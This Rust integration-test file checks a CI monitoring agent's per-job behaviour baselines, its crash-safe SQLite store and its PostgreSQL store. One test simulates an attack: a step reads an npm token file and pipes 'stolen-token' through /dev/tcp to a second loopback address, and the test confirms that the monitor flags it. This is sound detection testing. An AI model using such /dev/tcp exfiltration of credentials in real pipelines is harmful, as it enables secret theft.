//! Baselines across runs (`new-behaviour`): runs of one simulated job through the real agent,
//! recorded in a real SQLite file and a real PostgreSQL cluster made by the test.

use std::{
    io::Read as _,
    path::{Path, PathBuf},
    process::Command,
    time::{Duration, Instant},
};

use integration_tests::{by_rule, monitor_bin, monitor_cli, sample, sink, Agent, FakeRunner};
use serde_json::Value;

const JOB: &str = "github:acme/app/CI/build";

/// A configuration whose thresholds make a baseline stable after three runs: learning for two,
/// then stable once two runs in a row brought nothing new.
fn config(dir: &Path) -> PathBuf {
    let path = dir.join("monitor.yml");
    std::fs::write(
        &path,
        "version: 1\nbaseline:\n  learning_runs: 2\n  stable_after: 2\n  unstable_window: 2\n",
    )
    .unwrap();
    path
}

/// The honest job: a build, a download from the local mirror, a publish that reads the npm
/// token (the kind of access a broad profile allows).
fn honest_steps(port: u16) -> Vec<(&'static str, String)> {
    vec![
        (
            "build",
            "echo building > build.log && sort build.log > /dev/null\n".into(),
        ),
        (
            "fetch",
            format!("exec 3<>/dev/tcp/127.0.0.1/{port}; echo get >&3; exec 3>&-\n"),
        ),
        ("publish", "cat ~/.npmrc > /dev/null\n".into()),
    ]
}

/// Run `n` of this test's job: its run id is the test's own (the tests run at once, and every
/// agent sees every test's jobs: two tests' runs must never share a job's key).
fn run_id(n: u32) -> String {
    use std::sync::atomic::{AtomicU32, Ordering};
    static NEXT: AtomicU32 = AtomicU32::new(1);
    thread_local!(static TEST: u32 = NEXT.fetch_add(1, Ordering::Relaxed));
    TEST.with(|test| format!("{}{test:02}{n}", std::process::id()))
}

fn run(agent: &Agent, runner: &mut FakeRunner, n: u32, steps: &[(&str, String)]) -> Value {
    runner.run_id = run_id(n);
    let pairs: Vec<(&str, &str)> = steps.iter().map(|(a, b)| (*a, b.as_str())).collect();
    runner.run_job_with_hooks(&pairs, Some(&agent.control_socket));
    agent.wait_for_report(runner)
}

fn new_behaviour_findings(agent: &Agent, runner: &FakeRunner) -> Vec<Value> {
    let mine = runner.findings_of(&agent.findings());
    by_rule(&mine, "new-behaviour")
        .into_iter()
        .cloned()
        .collect()
}

fn cli(store: &str, args: &[&str]) -> String {
    let mut all = vec!["baseline", "--store", store];
    all.extend_from_slice(args);
    monitor_cli(&all)
}

/// Learning, then stable, then a new destination in one step: `new-behaviour` (high) in that
/// step only, with the report's baseline section and the metrics saying so. `diff`, `forget`
/// and `status` on the store; and `export` round trips: the exported profile judges a stable
/// run with zero findings (the built-in profile had a finding in each).
#[test]
fn a_new_destination_on_a_stable_baseline_is_reported_in_its_step_only_and_export_round_trips() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("baseline.db");
    let store = db.to_str().unwrap().to_string();
    let config = config(dir.path());
    let agent = Agent::start_with(&["--config", config.to_str().unwrap(), "--baseline", &store]);
    let mut runner = FakeRunner::outside_tmp();
    std::fs::write(
        runner.home.join(".npmrc"),
        "//registry.npmjs.org/:_authToken=npm_canary\n",
    )
    .unwrap();
    let port = sink();
    let honest = honest_steps(port);

    for n in 1..=3 {
        let report = run(&agent, &mut runner, n, &honest);
        let b = &report["baseline"];
        assert_eq!(b["job"], JOB, "{b:#}");
        assert_eq!(b["recorded"], "recorded", "{b:#}");
        assert_eq!(b["runs"], n - 1, "{b:#}");
        let expected = ["learning", "learning", "unstable"][n as usize - 1];
        assert_eq!(b["state"], expected, "run {n}: {b:#}");
        if n > 1 {
            for step in b["steps"].as_array().unwrap() {
                assert_eq!(
                    step["new"],
                    serde_json::json!([]),
                    "run {n}: an honest run brought something new: {b:#}"
                );
            }
        }
        assert!(
            new_behaviour_findings(&agent, &runner).is_empty(),
            "run {n}"
        );
        // The built-in profile's own finding: the stable runs are not silent under it.
        let mine = runner.findings_of(&agent.findings());
        assert!(
            !by_rule(&mine, "credential-read").is_empty(),
            "run {n}: {mine:#?}"
        );
    }
    let status = cli(&store, &["--config", config.to_str().unwrap(), "status"]);
    assert!(
        status.contains(JOB) && status.contains("stable") && status.contains("3 run(s)"),
        "{status}"
    );

    // Export while stable, and judge a stable run with it (a second agent, no baseline).
    let exported = dir.path().join("exported.yml");
    let out = cli(
        &store,
        &[
            "--config",
            config.to_str().unwrap(),
            "export",
            JOB,
            "-o",
            exported.to_str().unwrap(),
        ],
    );
    assert!(out.contains("allowance(s)"), "{out}");
    {
        let tight = Agent::start_with(&["--profile", exported.to_str().unwrap()]);
        let report = run(&tight, &mut runner, 100, &honest);
        let mine = runner.findings_of(&tight.findings());
        assert!(
            mine.is_empty(),
            "the exported profile raised findings: {mine:#?}\n{}",
            std::fs::read_to_string(&exported).unwrap()
        );
        assert_eq!(report["summary"]["findings"], 0);
    }

    // The attack: the fetch step also sends to another local address; the sink got the bytes.
    let (evil_port, received) = listening_sink("127.0.0.2");
    let mut attack = honest.clone();
    attack[1].1.push_str(&format!(
        "exec 4<>/dev/tcp/127.0.0.2/{evil_port}; echo stolen-token >&4; exec 4>&-\n"
    ));
    let report = run(&agent, &mut runner, 4, &attack);
    assert!(
        String::from_utf8_lossy(&received.recv_timeout(Duration::from_secs(10)).unwrap())
            .contains("stolen-token")
    );
    let found = new_behaviour_findings(&agent, &runner);
    assert_eq!(found.len(), 1, "{found:#?}");
    let f = &found[0];
    assert_eq!(f["severity"], "high");
    assert_eq!(f["step"]["id"], "fetch");
    assert_eq!(f["evidence"]["kind"], "destination");
    assert_eq!(f["evidence"]["item"], "tcp 127.0.0.2:*");
    assert_eq!(f["evidence"]["baseline_state"], "stable");
    let b = &report["baseline"];
    assert_eq!(b["state"], "stable");
    let steps = b["steps"].as_array().unwrap();
    for step in steps {
        let expected = if step["step"] == "fetch" {
            serde_json::json!([{"kind": "destination", "item": "tcp 127.0.0.2:*"}])
        } else {
            serde_json::json!([])
        };
        assert_eq!(step["new"], expected, "{b:#}");
    }
    assert!(report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .any(|f| f["rule"] == "new-behaviour"));
    let md =
        std::fs::read_to_string(agent.report_path(&runner).unwrap().with_extension("md")).unwrap();
    assert!(md.contains("Baseline") && md.contains("127.0.0.2"), "{md}");
    let html = std::fs::read_to_string(agent.report_path(&runner).unwrap().with_extension("html"))
        .unwrap();
    assert!(html.contains("id=\"baseline\"") && html.contains("tcp 127.0.0.2:*"));
    let metrics = agent.scrape();
    assert_eq!(
        sample(
            &metrics,
            &format!("monitor_baseline_state{{job=\"{JOB}\",state=\"stable\"}}")
        ),
        Some(1.0),
        "{metrics}"
    );
    assert!(
        sample(
            &metrics,
            "monitor_baseline_new_behaviours_total{kind=\"destination\"}"
        )
        .unwrap()
            >= 1.0
    );

    // The store: the run's diff, the state now, and forgetting the destination makes it new
    // again (the next run reports it once more).
    let diff = cli(
        &store,
        &[
            "--config",
            config.to_str().unwrap(),
            "diff",
            JOB,
            "--run",
            &runner.run_id,
        ],
    );
    assert!(
        diff.contains("fetch: new destination:tcp 127.0.0.2:*"),
        "{diff}"
    );
    assert!(diff.contains("build: nothing new"), "{diff}");
    assert!(cli(
        &store,
        &["--config", config.to_str().unwrap(), "status", JOB]
    )
    .contains("unstable"));
    let forgot = cli(
        &store,
        &[
            "--config",
            config.to_str().unwrap(),
            "forget",
            JOB,
            "--behaviour",
            "destination:tcp 127.0.0.2:*",
        ],
    );
    assert!(forgot.contains("1 row(s)"), "{forgot}");
    let report = run(&agent, &mut runner, 5, &attack);
    let new: Vec<&Value> = report["baseline"]["steps"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|s| s["new"] != serde_json::json!([]))
        .collect();
    assert_eq!(new.len(), 1, "{:#}", report["baseline"]);
    assert_eq!(new[0]["step"], "fetch");
    assert!(cli(&store, &["--config", config.to_str().unwrap(), "check"]).contains("consistent"));
}

/// A loopback listener on `address`: its port, and what the first connection sent.
fn listening_sink(address: &str) -> (u16, std::sync::mpsc::Receiver<Vec<u8>>) {
    let listener = std::net::TcpListener::bind(format!("{address}:0")).unwrap();
    let port = listener.local_addr().unwrap().port();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for mut conn in listener.incoming().flatten() {
            let _ = conn.set_read_timeout(Some(Duration::from_secs(5)));
            let mut got = Vec::new();
            let _ = conn.read_to_end(&mut got);
            let _ = tx.send(got);
        }
    });
    (port, rx)
}

/// A run record file as the agent keeps pending ones.
fn run_file(dir: &Path, name: &str, run: &str, items: &[&str]) -> PathBuf {
    let behaviours: Vec<Value> = items
        .iter()
        .map(|i| serde_json::json!({"kind": "destination", "item": i}))
        .collect();
    let record = serde_json::json!({
        "job": JOB,
        "run": run,
        "run_id": run,
        "ended": "2026-12-01T00:00:00Z",
        "steps": {"install": behaviours, "test": [{"kind": "executable", "item": "/usr/bin/node"}]},
    });
    let path = dir.join(name);
    std::fs::write(&path, record.to_string()).unwrap();
    path
}

/// Writers killed (SIGKILL) in the middle of recording runs, again and again: the database
/// opens cleanly afterwards, passes SQLite's integrity check, and every run it counts is whole.
#[test]
fn killing_a_writer_mid_write_leaves_a_database_that_opens_cleanly() {
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("b.db").to_str().unwrap().to_string();
    let items: Vec<String> = (0..200)
        .map(|i| format!("tcp host{i}.example:443"))
        .collect();
    let refs: Vec<&str> = items.iter().map(String::as_str).collect();
    let mut recorded_before = 0;
    for round in 0..5 {
        let file = run_file(
            dir.path(),
            &format!("r{round}.json"),
            &format!("run-{round}"),
            &refs,
        );
        let mut child = Command::new(monitor_bin())
            .args(["baseline", "--store", &store, "import", "--times", "100000"])
            .arg(&file)
            .stdout(std::process::Stdio::null())
            .spawn()
            .unwrap();
        // Killed only once it is recording (a loaded machine can take longer than any fixed
        // wait to start: CI at 1cfe68d killed one before its first run), and then at a point
        // that differs from round to round.
        let started = std::time::Instant::now();
        loop {
            assert!(
                child.try_wait().unwrap().is_none(),
                "round {round}: the writer finished before it was killed"
            );
            // Before the writer made the store, `check` may fail: only a success counts.
            let check = Command::new(monitor_bin())
                .args(["baseline", "--store", &store, "check"])
                .output()
                .unwrap();
            if check.status.success()
                && recorded_runs(&String::from_utf8_lossy(&check.stdout)) > recorded_before
            {
                break;
            }
            assert!(
                started.elapsed() < Duration::from_secs(60),
                "round {round}: the writer recorded nothing in 60 s"
            );
            std::thread::sleep(Duration::from_millis(50));
        }
        std::thread::sleep(Duration::from_millis(50 + 73 * round as u64));
        assert!(
            child.try_wait().unwrap().is_none(),
            "round {round}: the writer finished before it was killed"
        );
        child.kill().unwrap();
        child.wait().unwrap();
        let check = cli(&store, &["check"]);
        assert!(check.contains("consistent"), "round {round}: {check}");
        let runs = recorded_runs(&check);
        assert!(
            runs > recorded_before,
            "round {round}: nothing was being written ({check})"
        );
        recorded_before = runs;
        // Whole runs only: each recorded run has both its steps.
        let show = cli(&store, &["show", JOB]);
        let line = show
            .lines()
            .find(|l| l.contains("executable:/usr/bin/node"))
            .unwrap();
        assert!(
            line.contains(&format!("\t{runs} run(s)")),
            "{line} vs {runs}"
        );
    }
}

/// The number of runs `baseline check` says the store holds.
fn recorded_runs(check: &str) -> u64 {
    check
        .split(", ")
        .find_map(|p| p.strip_suffix(" run(s) recorded"))
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("{check}"))
}

/// A PostgreSQL cluster of the test's own: `initdb` and `pg_ctl` as an unprivileged user, on a
/// free loopback port, trusting local connections; stopped when dropped.
struct Cluster {
    dir: tempfile::TempDir,
    port: u16,
    bin: PathBuf,
}

impl Cluster {
    fn start() -> Self {
        let bin = std::fs::read_dir("/usr/lib/postgresql")
            .expect(
                "PostgreSQL is not installed (`cargo xtask setup` installs Debian's postgresql)",
            )
            .flatten()
            .map(|e| e.path().join("bin"))
            .find(|b| b.join("initdb").exists())
            .expect("no /usr/lib/postgresql/*/bin/initdb");
        let user = integration_tests::unprivileged_runner_user();
        let dir = integration_tests::tempdir_outside_tmp();
        let status = Command::new("chown")
            .arg(format!("{}:{}", user.uid, user.gid))
            .arg(dir.path())
            .status()
            .unwrap();
        assert!(status.success());
        let port = std::net::TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
            .port();
        let cluster = Cluster { dir, port, bin };
        let out = cluster.as_user(
            "initdb",
            &[
                "-D",
                &cluster.data(),
                "-A",
                "trust",
                "-U",
                "monitor",
                "--no-sync",
            ],
        );
        assert!(
            out.status.success(),
            "initdb: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        cluster.up();
        let out = Command::new(cluster.bin.join("createdb"))
            .args([
                "-h",
                "127.0.0.1",
                "-p",
                &port.to_string(),
                "-U",
                "monitor",
                "baselines",
            ])
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "createdb: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        cluster
    }

    fn data(&self) -> String {
        self.dir.path().join("data").display().to_string()
    }

    fn as_user(&self, program: &str, args: &[&str]) -> std::process::Output {
        Command::new("runuser")
            .args(["-u", "monitor-ci-runner", "--"])
            .arg(self.bin.join(program))
            .args(args)
            .current_dir(self.dir.path())
            .output()
            .unwrap()
    }

    fn up(&self) {
        let options = format!(
            "-p {} -c listen_addresses=127.0.0.1 -k {} -c fsync=off",
            self.port,
            self.dir.path().display()
        );
        let log = self.dir.path().join("postgres.log").display().to_string();
        let out = self.as_user(
            "pg_ctl",
            &[
                "-D",
                &self.data(),
                "-o",
                &options,
                "-l",
                &log,
                "-w",
                "start",
            ],
        );
        assert!(
            out.status.success(),
            "pg_ctl start: {}{}",
            String::from_utf8_lossy(&out.stderr),
            std::fs::read_to_string(&log).unwrap_or_default()
        );
    }

    fn down(&self) {
        let out = self.as_user("pg_ctl", &["-D", &self.data(), "-m", "fast", "-w", "stop"]);
        assert!(
            out.status.success(),
            "pg_ctl stop: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }

    fn url(&self) -> String {
        format!("postgres://monitor@127.0.0.1:{}/baselines", self.port)
    }
}

impl Drop for Cluster {
    fn drop(&mut self) {
        let _ = self.as_user("pg_ctl", &["-D", &self.data(), "-m", "immediate", "stop"]);
    }
}

/// The shared store: two writers recording runs of the same job at once lose nothing (every
/// run counted, every behaviour's count exact); then an agent whose database stops during a
/// job says in the report that the run is pending, keeps it on disk, and sends it when the
/// database is back (the store has it, nothing pending, nothing lost).
#[test]
fn postgres_concurrent_writers_lose_nothing_and_a_run_waits_for_a_stopped_database() {
    let cluster = Cluster::start();
    let url = cluster.url();
    let dir = tempfile::tempdir().unwrap();
    let shared = "tcp registry.npmjs.org:443";
    let a = run_file(
        dir.path(),
        "a.json",
        "writer-a",
        &[shared, "tcp a.example:443"],
    );
    let b = run_file(
        dir.path(),
        "b.json",
        "writer-b",
        &[shared, "tcp b.example:443"],
    );
    let writers: Vec<_> = [a, b]
        .iter()
        .map(|file| {
            Command::new(monitor_bin())
                .args(["baseline", "--store", &url, "import", "--times", "40"])
                .arg(file)
                .output_async()
        })
        .collect();
    for w in writers {
        let out = w.join().unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(String::from_utf8_lossy(&out.stdout).contains("40 run(s) recorded"));
    }
    let status = cli(&url, &["status"]);
    assert!(
        status.contains(&format!("{JOB}\t")) && status.contains("80 run(s)"),
        "{status}"
    );
    let show = cli(&url, &["show", JOB]);
    let count = |item: &str| -> String {
        show.lines()
            .find(|l| l.contains(item))
            .unwrap_or_else(|| panic!("{item} not in {show}"))
            .split('\t')
            .nth(1)
            .unwrap()
            .to_string()
    };
    assert_eq!(count(shared), "80 run(s)");
    assert_eq!(count("a.example"), "40 run(s)");
    assert_eq!(count("b.example"), "40 run(s)");
    assert_eq!(count("/usr/bin/node"), "80 run(s)");
    cli(&url, &["forget", JOB]);

    // The agent, and the database stopped while a job runs.
    let pending = dir.path().join("pending");
    let agent = Agent::start_with(&[
        "--baseline",
        &url,
        "--baseline-pending",
        pending.to_str().unwrap(),
    ]);
    let mut runner = FakeRunner::outside_tmp();
    let first = run(&agent, &mut runner, 1, &[("build", "true\n".to_string())]);
    assert_eq!(
        first["baseline"]["recorded"], "recorded",
        "{:#}",
        first["baseline"]
    );
    runner.run_id = run_id(2);
    let job = {
        let socket = agent.control_socket.clone();
        let runner_ref = &runner;
        std::thread::scope(|s| {
            let job = s.spawn(move || {
                runner_ref.run_job_with_hooks(&[("build", "sleep 3\n")], Some(&socket))
            });
            std::thread::sleep(Duration::from_secs(1));
            cluster.down();
            job.join().unwrap()
        })
    };
    let _ = job;
    let second = agent.wait_for_report(&runner);
    let b = &second["baseline"];
    assert_eq!(b["recorded"], "pending", "{b:#}");
    assert!(b["note"].as_str().unwrap().contains("waits in"), "{b:#}");
    let md =
        std::fs::read_to_string(agent.report_path(&runner).unwrap().with_extension("md")).unwrap();
    assert!(md.contains("pending"), "{md}");
    assert_eq!(
        sample(&agent.scrape(), "monitor_baseline_pending_runs"),
        Some(1.0)
    );
    assert_eq!(std::fs::read_dir(&pending).unwrap().count(), 1);

    cluster.up();
    let deadline = Instant::now() + Duration::from_secs(120);
    loop {
        let metrics = agent.scrape();
        if sample(&metrics, "monitor_baseline_pending_runs") == Some(0.0) {
            assert_eq!(
                sample(&metrics, "monitor_baseline_runs_lost_total"),
                Some(0.0)
            );
            assert_eq!(sample(&metrics, "monitor_baseline_store_up"), Some(1.0));
            break;
        }
        assert!(
            Instant::now() < deadline,
            "the pending run was never sent:\n{}",
            agent.log()
        );
        std::thread::sleep(Duration::from_millis(500));
    }
    let diff = cli(&url, &["diff", JOB, "--run", &runner.run_id]);
    assert!(diff.contains("build"), "{diff}");
    assert!(cli(&url, &["status", JOB]).contains("2 run(s)"));
    assert_eq!(
        std::fs::read_dir(&pending)
            .unwrap()
            .filter(|e| e
                .as_ref()
                .unwrap()
                .path()
                .extension()
                .is_some_and(|x| x == "json"))
            .count(),
        0
    );
}

/// `Command::output` on a thread: the two writers run at once.
trait OutputAsync {
    fn output_async(&mut self) -> std::thread::JoinHandle<std::process::Output>;
}

impl OutputAsync for Command {
    fn output_async(&mut self) -> std::thread::JoinHandle<std::process::Output> {
        let child = self
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        std::thread::spawn(move || child.wait_with_output().unwrap())
    }
}
